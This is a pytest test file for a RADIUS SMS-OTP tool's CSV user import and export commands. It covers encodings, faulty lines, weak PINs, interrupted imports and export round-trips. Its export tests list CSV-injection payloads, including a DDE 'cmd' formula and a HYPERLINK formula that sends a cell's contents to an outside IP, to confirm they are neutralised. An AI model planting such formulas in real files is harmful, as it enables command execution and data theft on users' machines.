"""``smsotp user import`` and ``export``."""

from __future__ import annotations

import csv
import signal
import sqlite3
import stat
import subprocess
import sys
from dataclasses import replace
from datetime import UTC, datetime
from types import SimpleNamespace
from typing import TYPE_CHECKING, Any

import pytest

from radius_smsotp.cli import output
from radius_smsotp.cli.user import bulk
from radius_smsotp.model.records import Account, Device
from radius_smsotp.store import open_store
from radius_smsotp.store.postgres.connection import Session
from tests.cli.installation import ROUNDS
from tests.cli.terminal import Terminal
from tests.support.site import kind, pap

if TYPE_CHECKING:
    from tests.cli.installation import Installation
    from tests.store.postgres_server import PostgresServer

PHONE = "+491701234567"
OTHER = "+491707654321"


def write(here: Installation, text: str | bytes, name: str = "staff.csv") -> str:
    """A file to import.  Returns its path."""
    path = here.folder / name
    path.write_bytes(text if isinstance(text, bytes) else text.encode())
    return str(path)


SMALL_SLICES = [
    sys.executable,
    "-c",
    "from radius_smsotp.cli import smsotp\n"
    "from radius_smsotp.cli.user import bulk\n"
    "bulk.LARGEST = bulk.SMALLEST\n"
    "smsotp()",
]
"""The program, which takes a second for what it otherwise writes at once."""


def names(here: Installation) -> list[str]:
    """All accounts."""
    return [one.name for one in accounts(here)]


def accounts(here: Installation) -> list[Account]:
    """All accounts, by name."""
    with here.store.read() as tx:
        return [one for one, _ in tx.accounts()]


def many(number: int) -> str:
    """A file of so many accounts without PINs."""
    rows = "".join(f"user{position:05},+49170{position:07}\n" for position in range(number))
    return f"name,phone\n{rows}"


def refused(here: Installation, path: str, *options: str) -> list[str]:
    """An import that fails.  Returns what it prints."""
    result = here.run("user", "import", path, *options)
    assert result.exit_code == 1, result.output
    assert "Traceback" not in result.output
    return result.output.splitlines()


class TestForm:
    @pytest.mark.parametrize(
        "text",
        [
            f"name,phone,pin,provider\nalice,{PHONE},geheim,demo\n",
            f"phone;PROVIDER; Pin ;name\r\n{PHONE};demo;geheim;Alice\r\n",
            f"\ufeffname,phone,pin,provider\n\n alice , {PHONE} ,geheim,demo",
            f'name,phone,pin,provider\n"alice","{PHONE}","geheim","demo"\n\n\n',
        ],
        ids=["plain", "spreadsheet", "byte order mark", "quoted"],
    )
    def test_every_way_to_write_it_means_the_same(self, here: Installation, text: str) -> None:
        shown = here.done("user", "import", write(here, text))
        assert shown.endswith("added: 1, changed: 0, left as they are: 0\n")
        [alice] = accounts(here)
        assert (alice.name, alice.phone, alice.provider) == ("alice", PHONE, "demo")
        assert f":{ROUNDS}:" in here.pin_hash()
        assert pap(here.pin_hash(), "geheim")

    def test_the_accounts_can_log_in(self, here: Installation) -> None:
        here.done("user", "import", write(here, f"name,phone,pin\nzoë,{PHONE},größer\n"))
        assert kind(here.node().first("Zoë", "größer")) == "challenged"

    def test_each_account_has_a_salt_of_its_own(self, here: Installation) -> None:
        text = f"name,phone,pin\nalice,{PHONE},1234\nbob,{OTHER},1234\n"
        here.done("user", "import", write(here, text))
        alice, bob = accounts(here)
        assert alice.pin_hash != bob.pin_hash

    def test_an_account_may_be_imported_disabled(self, here: Installation) -> None:
        text = f"name,phone,enabled\nalice,{PHONE},no\nbob,{OTHER},\n"
        here.done("user", "import", write(here, text))
        assert [one.enabled for one in accounts(here)] == [False, True]

    @pytest.mark.parametrize(
        ("text", "fault"),
        [
            ("", "line 1: the column 'name' is missing"),
            (
                f"alice,{PHONE},1234\n",
                "line 1: the column 'name' is missing; the first line names the columns: name, "
                "phone, pin, provider, enabled, language, ways; or give --column name=TITLE",
            ),
            ("name,fone\n", "line 1: the title of column 2 is unknown; did you mean 'phone'?"),
            ("name,phone,Name\n", "line 1: column 3 has the title of one before it"),
            (
                b"name,phone\nalice,1\nzo\x8d,2\n",
                "line 3: is not UTF-8; save it as UTF-8, or give its --encoding",
            ),
            ('name,phone\n"alice,1\n', "line 2: unexpected end of data"),
        ],
        ids=["empty", "no header", "misspelt", "twice", "no encoding", "open quote"],
    )
    def test_what_is_no_such_file_is_refused_as_a_whole(
        self, here: Installation, text: str | bytes, fault: str
    ) -> None:
        shown = "\n".join(refused(here, write(here, text)))
        assert fault in shown
        assert PHONE not in shown

    @pytest.mark.parametrize(
        ("octets", "told"),
        [
            (f"name;phone;enabled\r\nzoë;{PHONE};WAHR\r\n".encode("utf-16"), []),
            (f"name\tphone\tenabled\nzoë\t{PHONE}\tja\n".encode("utf-16-le"), []),
            (f"sep=;\r\nname;phone;enabled;;\r\nzoë;{PHONE};oui;;;\r\n;;;;;\r\n".encode(), []),
            (f"enabled\tname\tphone\nTRUE\tzoë\t{PHONE}\n".encode(), []),
            (
                f"name;phone;enabled\r\nzoë;{PHONE};sí\r\n".encode("cp1252"),
                [
                    "line 2: is not UTF-8, and read as Windows-1252; if that spoils names, give "
                    "its --encoding"
                ],
            ),
            (
                f"Abteilung;name;phone;enabled;Ort\r\nIT;zoë;{PHONE};tak;\r\n".encode(),
                [
                    "line 1: column 1 ('abteilung') is not read",
                    "line 1: column 5 ('ort') is not read",
                ],
            ),
        ],
        ids=["UTF-16", "UTF-16 without a mark", "sep and empty", "tabs", "Windows", "more columns"],
    )
    def test_what_a_spreadsheet_writes_is_read_and_what_it_left_out_is_told(
        self, here: Installation, octets: bytes, told: list[str]
    ) -> None:
        shown = here.done("user", "import", write(here, octets)).splitlines()
        assert shown == [*told, "added: 1, changed: 0, left as they are: 0"]
        assert [(one.name, one.phone, one.enabled) for one in accounts(here)] == [
            ("zoë", PHONE, True)
        ]

    def test_titles_in_the_language_of_the_site(self, here: Installation) -> None:
        """They are named on the command line, in any letter case; the others are not read."""
        text = f"Benutzer;Handy;PIN;Name\nalice;{PHONE};2580;Alice Liddell\n"
        columns = ("--column", "name=benutzer", "--column", "phone=Handy")
        shown = here.done("user", "import", write(here, text), *columns).splitlines()
        assert shown[0] == "line 1: column 4 ('name') is not read"
        assert [(one.name, one.phone) for one in accounts(here)] == [("alice", PHONE)]
        assert pap(here.pin_hash(), "2580")
        absent = refused(here, write(here, text), *columns, "--column", "language=Sprache")
        assert absent[0].endswith("line 1: there is no column 'Sprache' for language")

    @pytest.mark.parametrize(
        "given",
        [("phone",), ("fone=Handy",), ("phone=",), ("phone=A", "phone=B"), ("pin=A", "phone=A")],
    )
    def test_a_column_that_makes_no_sense_is_wrong_usage(
        self, here: Installation, given: tuple[str, ...]
    ) -> None:
        options = [word for one in given for word in ("--column", one)]
        result = here.run("user", "import", write(here, "name,phone\n"), *options)
        assert (result.exit_code, "--column" in result.output) == (2, True)

    def test_another_encoding_is_named(self, here: Installation) -> None:
        path = write(here, f"name,phone\nёжик,{PHONE}\n".encode("koi8-r"))
        here.done("user", "import", path, "--encoding", "KOI8-R")
        assert names(here) == ["ёжик"]
        assert here.run("user", "import", path, "--encoding", "klingon").exit_code == 2
        assert "is not ASCII" in refused(here, path, "--encoding", "ascii")[0]

    def test_a_dash_is_standard_input(self, here: Installation) -> None:
        here.done("user", "import", "-", stdin=f"name,phone\nalice,{PHONE}\n")
        assert names(here) == ["alice"]

    def test_numbers_that_a_spreadsheet_rounded_are_faults_told_once(
        self, here: Installation
    ) -> None:
        """The rest of their digits is gone."""
        rows = ("a,4.91701E+11,2580", f'b,{PHONE},"2,58E+03"', "c,4.9E+11,2580", f"d,{PHONE},2580")
        shown = refused(here, write(here, "name,phone,pin\n" + "\n".join(rows)))
        more = "give its column the format Text, and write it again"
        assert shown == [
            f"lines 2, 4: a spreadsheet has rounded the phone (…E+…); {more}",
            f"line 3: a spreadsheet has rounded the pin (…E+…); {more}",
            "smsotp: 3 faulty lines; nothing was imported",
        ]

    def test_a_file_that_is_not_there_is_wrong_usage(self, here: Installation) -> None:
        assert here.run("user", "import", "/no/such/file.csv").exit_code == 2


FAULTY = f"""name,phone,pin,provider
alice,{PHONE},2580,
,{PHONE},2580,
carol,0170 1234567,2580,
dave,{OTHER},12\0\0,
erin,{OTHER},2580,gsm
Alice,{OTHER},2580,
frank,{OTHER},2580
"grace
hopper",{OTHER},2580,
heidi,,2580,
ivan,{OTHER},2580,demo
alice\u200b,{OTHER},2580,
"""
REASONS = [
    "line 3: the name is empty",
    "line 4: the phone number has no country code; write it with one, as +491701234567, or set "
    "'country'",
    "line 5: the PIN holds a control character, or one that is not UTF-8",
    "line 6: the provider 'gsm' is not one of demo",
    "line 7: the name stands in line 2 already",
    "line 8: has 3 fields, the header has 4",
    "line 9: the name holds a control character, or one that is not UTF-8",
    "line 11: the phone number is missing",
    "line 13: the name holds a character that is not seen",
]


class TestFaultyLines:
    def test_every_one_is_named_with_its_reason_and_nothing_is_imported(
        self, here: Installation
    ) -> None:
        shown = refused(here, write(here, FAULTY))
        assert shown == [*REASONS, "smsotp: 9 faulty lines; nothing was imported"]
        assert names(here) == []

    def test_numbers_that_would_become_somebody_elses_are_faults_and_others_are_doubted(
        self, here: Installation
    ) -> None:
        rows = ("a,+4917O1234567", "b,+49 30 123456 ext. 789", "c,+4930123456", f"d,{PHONE}")
        path = write(here, "name,phone\n" + "\n".join(rows))
        assert refused(here, path, "--keep-going") == [
            "line 2: the phone number holds letters; write digits alone, as +491701234567",
            "line 3: the phone number holds an extension, which no message reaches; write the "
            "number of a mobile phone",
            "line 4: the phone number is a landline, which messages hardly ever reach",
            "added: 2, changed: 0, left as they are: 0",
            f"smsotp: 2 faulty lines; mend and import {here.folder / 'staff.rejected.csv'}",
        ]
        # What was said once is not said again.
        again = here.done("user", "import", write(here, "name,phone\nc,+4930123456"), "--update")
        assert again == "added: 0, changed: 0, left as they are: 1\n"

    def test_numbers_that_no_message_may_go_to_are_faults(self, here: Installation) -> None:
        here.write(limits={"countries": ["+1"]})
        rows = ("a,+1 876 210 1234", "b,+1 900 234 5678", "c,+1 416 555 0123")
        assert refused(here, write(here, "name,phone\n" + "\n".join(rows)), "--keep-going")[:3] == [
            "line 2: the phone number is of JM, which limits.countries does not name; correct it, "
            "or name the country there",
            "line 3: the phone number is a premium number, to which a message costs more; correct "
            "it, or name its prefix in limits.special",
            "added: 1, changed: 0, left as they are: 0",
        ]

    def test_short_pins_are_faults_and_those_that_are_guessed_first_are_counted(
        self, here: Installation
    ) -> None:
        rows = ("a,735", "b,1234", "carl,2580", "dora,dora", "e,9876", "f,0170", "g,")
        path = write(here, f"phone,name,pin\n{PHONE}," + f"\n{PHONE},".join(rows))
        weak = [
            "lines 3, 6: the PIN is a sequence, which is guessed first",
            "line 7: the PIN is taken from the phone number, which is guessed first",
            "line 5: the PIN is taken from the user name, which is guessed first",
        ]
        short = (
            "line 2: the PIN is shorter than 4 characters (pin.shortest); if a spreadsheet took "
            "its leading zeros, give the column the format Text"
        )
        shown = refused(here, path, "--keep-going", "--dry-run")
        assert shown[:4] == [short, *weak]
        assert shown[4:-2] == [
            f"line {at}: {one} would be added"
            for at, one in enumerate(["b", "carl", "dora", "e", "f", "g"], 3)
        ]
        assert shown[-2] == "would be added: 6, changed: 0, left as they are: 0, weak PINs: 4"
        shown = refused(here, path, "--keep-going")
        assert shown[:4] == [short, *weak]
        assert shown[4] == "added: 6, changed: 0, left as they are: 0, weak PINs: 4"
        assert names(here) == ["b", "carl", "dora", "e", "f", "g"]
        again = here.done("user", "import", write(here, f"name,phone,pin\nb,{PHONE},"), "--update")
        assert again == "added: 0, changed: 0, left as they are: 1\n"

    def test_keep_going_imports_the_others(self, here: Installation) -> None:
        path = write(here, FAULTY)
        shown = refused(here, path, "--keep-going")
        rejected = here.folder / "staff.rejected.csv"
        assert shown == [
            *REASONS,
            "added: 2, changed: 0, left as they are: 0",
            f"smsotp: 9 faulty lines; mend and import {rejected}",
        ]
        assert names(here) == ["alice", "ivan"]

    def test_the_rejected_lines_can_be_mended_and_imported(self, here: Installation) -> None:
        refused(here, write(here, "name;phone;pin\nalice;0170 1234567;12;34\nbob;;5678\n"))
        refused(here, str(here.folder / "staff.csv"), "--keep-going")
        rejected = here.folder / "staff.rejected.csv"
        assert stat.S_IMODE(rejected.stat().st_mode) == 0o600
        lines = rejected.read_text("utf-8").splitlines()
        assert lines == [
            "name;phone;pin;reason",
            "alice;0170 1234567;12;has 4 fields, the header has 3;34",
            "bob;;5678;the phone number is missing",
        ]
        mended = "\n".join([lines[0], f"alice;{PHONE};1234;", f"bob;{OTHER};5678;mended", ""])
        here.done("user", "import", write(here, mended))
        assert pap(here.pin_hash("alice"), "1234")
        assert pap(here.pin_hash("bob"), "5678")

    def test_a_file_without_faults_leaves_no_rejected_one(self, here: Installation) -> None:
        here.done("user", "import", write(here, many(3)), "--keep-going")
        assert not (here.folder / "staff.rejected.csv").exists()

    def test_neither_pins_nor_numbers_are_shown(self, here: Installation) -> None:
        text = "name,phone,pin\nalice,+4917012345678901234,secret-pin\nbob,+491701234,secret\0\n"
        shown = "\n".join(refused(here, write(here, text)))
        assert shown.count("line ") == 2
        assert "secret" not in shown
        assert "+49170" not in shown.replace(PHONE, "")


class TestDryRun:
    def test_it_says_what_would_happen_and_does_nothing(self, here: Installation) -> None:
        here.done("user", "add", "alice", "--phone", PHONE)
        path = write(here, f"name,phone,pin\nalice,{PHONE},\nbob,{OTHER},2580\n")
        shown = here.done("user", "import", path, "--dry-run", "--update")
        assert shown == (
            "line 3: bob would be added\nwould be added: 1, changed: 0, left as they are: 1\n"
        )
        assert names(here) == ["alice"]

    def test_faulty_lines_are_told_and_refused(self, here: Installation) -> None:
        shown = refused(here, write(here, FAULTY), "--dry-run", "--keep-going")
        assert shown[:-4] == REASONS
        assert shown[-2] == "would be added: 2, changed: 0, left as they are: 0"
        assert shown[-1].startswith("smsotp: 9 faulty lines")
        assert not (here.folder / "staff.rejected.csv").exists()


class TestUpdate:
    def test_without_it_an_account_that_is_there_is_a_faulty_line(self, here: Installation) -> None:
        here.done("user", "add", "alice", "--phone", PHONE)
        shown = refused(here, write(here, f"name,phone\nbob,{OTHER}\nALICE,{OTHER}\n"))
        assert shown[0] == "line 3: there is an account 'alice' already (see --update)"
        assert names(here) == ["alice"]

    def test_fields_that_are_empty_or_absent_leave_what_is_there(self, here: Installation) -> None:
        options = ("--phone", PHONE, "--pin", "1234", "--provider", "demo")
        here.done("user", "add", "alice", *options)
        here.done("user", "disable", "alice")
        before = accounts(here)
        path = write(here, "name,phone,pin\nalice,,\n")
        shown = here.done("user", "import", path, "--update")
        assert shown == "added: 0, changed: 0, left as they are: 1\n"
        assert accounts(here) == before
        assert [event.kind for event in here.events("alice")][2:] == []

    def test_what_changes_has_the_effects_of_user_set(self, here: Installation) -> None:
        here.done("user", "add", "alice", "--phone", PHONE, "--pin", "1234")
        node = here.node()
        challenged = node.challenge("alice", "1234")
        path = write(here, f"name,phone,pin\nalice,{OTHER},\nbob,{OTHER},\n")
        shown = here.done("user", "import", path, "--update")
        assert shown == "added: 1, changed: 1, left as they are: 0\n"
        assert node.stored(challenged.transaction_id).state == "cancelled"
        assert here.events("alice")[-1].detail["fields"] == "phone"
        assert kind(node.first("alice", "1234")) == "challenged"


@pytest.mark.slow
class TestInterrupted:
    """In slices: what has come so far is there, and the same file with --update does the rest."""

    @pytest.fixture
    def before(self, here: Installation) -> list[Account]:
        """Some accounts that an update will find, and what they are like."""
        here.done("user", "import", write(here, many(150), "first.csv"))
        here.done("user", "disable", "user00003")
        return accounts(here)

    def test_a_store_that_fails_in_the_middle_keeps_what_was_imported(
        self, here: Installation, before: list[Account]
    ) -> None:
        """It says how much that is, and how to go on."""
        fail_at(here, "user00777")
        path = write(here, many(1000).replace("+49170", "+43664"))
        shown = refused(here, path, "--update")
        done = sum((one.phone or "").startswith("+43") for one in accounts(here))
        assert 100 <= done <= 777
        assert shown[0] == (
            f"smsotp: written: {done} of 1000 accounts; "
            "the same file with --update imports the others"
        )
        assert shown[-1].startswith("smsotp: the store does not work")
        works_again(here)
        added = 1000 - max(done, len(before))
        assert here.done("user", "import", path, "--update") == (
            f"added: {added}, changed: {1000 - done - added}, left as they are: {done}\n"
        )
        assert {(one.phone or "")[:3] for one in accounts(here)} == {"+43"}
        assert [event.kind for event in here.events("user00777")] == ["account-added"]
        assert here.account("user00003") == replace(before[3], phone="+436640000003")

    @pytest.mark.parametrize("kind", [signal.SIGKILL, signal.SIGTERM, signal.SIGINT])
    def test_a_signal_before_all_pins_are_hashed_leaves_nothing(
        self, here: Installation, kind: signal.Signals
    ) -> None:
        """Nothing is written before."""
        rows = "".join(f"u{n},{PHONE},1234\n" for n in range(5000))
        with Terminal(here, "user", "import", write(here, f"name,phone,pin\n{rows}")) as terminal:
            terminal.expect("Hashing PINs")
            terminal.process.send_signal(kind)
            assert terminal.wait() != 0
        assert names(here) == []

    @pytest.mark.parametrize("kind", [signal.SIGKILL, signal.SIGTERM, signal.SIGINT])
    def test_one_that_was_killed_is_run_again(
        self, here: Installation, before: list[Account], kind: signal.Signals
    ) -> None:
        """No account is there by half, and none is changed twice."""
        path = write(here, many(2000).replace("+49170", "+43664"))
        with Terminal(here, "user", "import", path, "--update", program=SMALL_SLICES) as terminal:
            terminal.expect("Importing")
            terminal.process.send_signal(kind)
            assert terminal.wait() != 0
        some = accounts(here)
        done = sum((one.phone or "").startswith("+43") for one in some)
        assert 0 < done < 2000
        added = 2000 - len(some)
        shown = here.done("user", "import", path, "--update")
        last = shown.splitlines()[-1]
        assert last == (f"added: {added}, changed: {2000 - done - added}, left as they are: {done}")
        assert len(names(here)) == 2000

    @pytest.mark.parametrize("others", ["add", "set", "delete"])
    def test_a_change_by_somebody_else_meanwhile_is_not_overwritten(
        self,
        here: Installation,
        before: list[Account],
        monkeypatch: pytest.MonkeyPatch,
        others: str,
    ) -> None:
        """Between two slices everybody else has a turn: here an administrator."""
        words = {
            "add": ("user", "add", "user00555", "--phone", PHONE),
            "set": ("user", "set", "user00149", "--phone", PHONE),
            "delete": ("user", "delete", "user00149", "--yes"),
        }[others]
        name = "user00555" if others == "add" else "user00149"
        done: list[Account | None] = []

        def pause(_: float) -> None:
            if not done:
                here.done(*words)
                done.append(here.account(name))

        monkeypatch.setattr(bulk.time, "sleep", pause)
        shown = refused(here, write(here, many(1000).replace("+49170", "+43664")), "--update")
        line = int(name.removeprefix("user")) + 2
        rejected = here.folder / "staff.rejected.csv"
        reason = f"somebody else has changed '{name}' meanwhile"
        added = {"add": 849, "set": 850, "delete": 850}[others]
        assert shown == [
            f"line {line}: {reason}",
            f"added: {added}, changed: {999 - added}, left as they are: 1",
            f"smsotp: 1 faulty line; mend and import {rejected}",
        ]
        assert [here.account(name)] == done
        row = f"{name},+43664{line - 2:07},{reason}"
        assert rejected.read_text("utf-8").splitlines() == ["name,phone,reason", row]
        assert len(names(here)) == (999 if others == "delete" else 1000)


@pytest.mark.slow
class TestMany:
    def test_logins_go_on_during_a_large_import(self, here: Installation) -> None:
        """A store that is busy for half a second refuses them: see `Store`'s patience."""
        here.done("user", "add", "alice", "--phone", PHONE, "--pin", "1234")
        here.write(
            limits={"per_account_hour": 0, "per_number_hour": 0, "per_day": 0, "cooldown": 0}
        )
        path = write(here, many(20_000))
        importing = here.start("user", "import", path, stdout=subprocess.PIPE)
        logins = here.log_in_during(importing, patience=0.5)
        assert importing.stdout is not None
        assert importing.stdout.read() == "added: 20000, changed: 0, left as they are: 0\n"
        assert logins > 5
        assert len(names(here)) == 20_001

    def test_a_terminal_shows_how_far_it_is_and_for_how_long(self, here: Installation) -> None:
        path = write(here, "name,phone,pin\n" + "".join(f"u{n},{PHONE},1234\n" for n in range(200)))
        with Terminal(here, "user", "import", path) as terminal:
            terminal.expect("Hashing PINs")
            terminal.expect("0:00:")
            terminal.expect("to go")
            terminal.expect("added: 200, changed: 0")
            assert terminal.wait() == 0

    def test_a_pipe_gets_a_line_now_and_then(
        self, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setattr(output, "QUIET_SECONDS", -1.0)
        with output.progress("Hashing PINs") as advance:
            advance(0, 100_000)
            advance(50_000, 100_000)
            advance(60_000, 100_000)
            advance(100_000, 100_000)
        out, err = capsys.readouterr()
        assert out == ""
        assert err == "Hashing PINs: 50,000 of 100,000, 0 s to go\n"

    def test_the_time_before_the_first_step_is_none_of_the_rate(
        self, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
    ) -> None:
        """To hand out 100,000 PINs takes seconds, in which none is hashed."""
        times = iter((0.0, 4.0, 5.0))
        monkeypatch.setattr(output, "time", SimpleNamespace(monotonic=lambda: next(times)))
        with output.progress("Hashing PINs") as advance:
            advance(1, 100_001)
            advance(201, 100_001)
        assert capsys.readouterr().err == "Hashing PINs: 201 of 100,001, 8 min 19 s to go\n"


class TestExport:
    def test_it_can_be_imported_elsewhere(self, here: Installation) -> None:
        text = f"name,phone,pin,provider\nalice,{PHONE},1234,\nbob,{OTHER},1234,demo\n"
        here.done("user", "import", write(here, text))
        here.done("user", "disable", "alice")
        before = accounts(here)
        out = here.folder / "out.csv"
        here.done("user", "export", str(out))
        assert stat.S_IMODE(out.stat().st_mode) == 0o600
        assert "PBKDF2" not in out.read_text()
        for name in ("alice", "bob"):
            here.done("user", "delete", name, "--yes")
        here.done("user", "import", str(out))
        after = [(one.name, one.phone, one.provider, one.enabled) for one in accounts(here)]
        assert after == [(one.name, one.phone, one.provider, one.enabled) for one in before]

    @pytest.mark.parametrize(
        "name",
        [
            "=1+1|x",
            "=cmd|' /c calc'!a0",
            '=hyperlink("http://192.0.2.1?"&b1,"x")',
            "+1+1",
            "-1",
            "@sum(1;1)",
            "'=1",
            "''@x",
        ],
    )
    def test_no_name_is_a_formula_to_a_spreadsheet(self, here: Installation, name: str) -> None:
        """OWASP, "CSV Injection": such a field gets a quote before it; `import` takes it off."""
        here.done("user", "add", "--phone", PHONE, "--", name)
        out = here.folder / "out.csv"
        here.done("user", "export", str(out))
        with out.open(newline="") as file:
            cells = [cell for row in csv.reader(file) for cell in row]
        assert [cell for cell in cells if cell[:1] in tuple("=+-@\t\r")] == [PHONE]
        assert f"'{name}" in cells
        here.done("user", "delete", "--yes", "--", name)
        here.done("user", "import", str(out))
        assert [(one.name, one.phone) for one in accounts(here)] == [(name, PHONE)]

    def test_what_is_none_stays_as_it_is(self, here: Installation) -> None:
        """A name that is a number, and one with a quote."""
        for name in ("+4711", "'t-hooft", "o'neil=x"):
            here.done("user", "add", name, "--phone", PHONE)
        shown = here.done("user", "export", "-")
        assert {line.partition(",")[0] for line in shown.splitlines()[1:]} == {
            "+4711",
            "'t-hooft",
            "o'neil=x",
        }

    def test_a_dash_is_standard_output_in_utf_8(self, here: Installation) -> None:
        here.done("user", "add", "zoë", "--phone", PHONE)
        done = here.call("user", "export", "-", env={"PYTHONIOENCODING": "ascii"})
        assert done.stdout == f"name,phone,provider,enabled,language\nzoë,{PHONE},,yes,\n"


def fail_at(here: Installation, name: str) -> None:
    """Let the store fail when this account is written."""
    with sqlite3.connect(here.folder / "smsotp.db") as db:
        db.execute(
            f"CREATE TRIGGER fail BEFORE INSERT ON account WHEN NEW.name = '{name}' "
            "BEGIN SELECT RAISE(ABORT, 'disk'); END"
        )


def works_again(here: Installation) -> None:
    """Undo `fail_at`."""
    with sqlite3.connect(here.folder / "smsotp.db") as db:
        db.execute("DROP TRIGGER fail")


def test_a_slice_waits_for_the_database_a_few_times_however_many_accounts_change(
    postgres_server: PostgresServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    """An account whose devices are forgotten is asked for on its own: few have any."""
    store, now = open_store(postgres_server.make_url(), 10), datetime.now(UTC)
    store.migrate()
    before = [Account(f"user{number}", PHONE) for number in range(100)]
    device = Device("user7", "wifi", "Office", "02-01", "tag", now)
    with store.write() as tx:
        for one in before:
            tx.put_account(one, now)
        tx.remember_device(device)
    waited: list[Session] = []
    send = Session._send

    def note(session: Session, *sent: Any) -> None:
        waited.append(session)
        send(session, *sent)

    with monkeypatch.context() as patch:
        patch.setattr(Session, "_send", note)
        part = [bulk.Change(one, replace(one, phone=OTHER)) for one in before]
        assert bulk._write_slice(store, part) == set()
    # Its start with the accounts, the devices, those of one of them, and the commit.
    assert len(waited) == 4
    with store.read() as tx:
        kinds = [event.kind for event in tx.events("user7", 9)]
        assert kinds == ["account-changed", "device-forgotten"]
        assert tx.accounts_named([one.name for one in before])["user99"].phone == OTHER
    store.close()
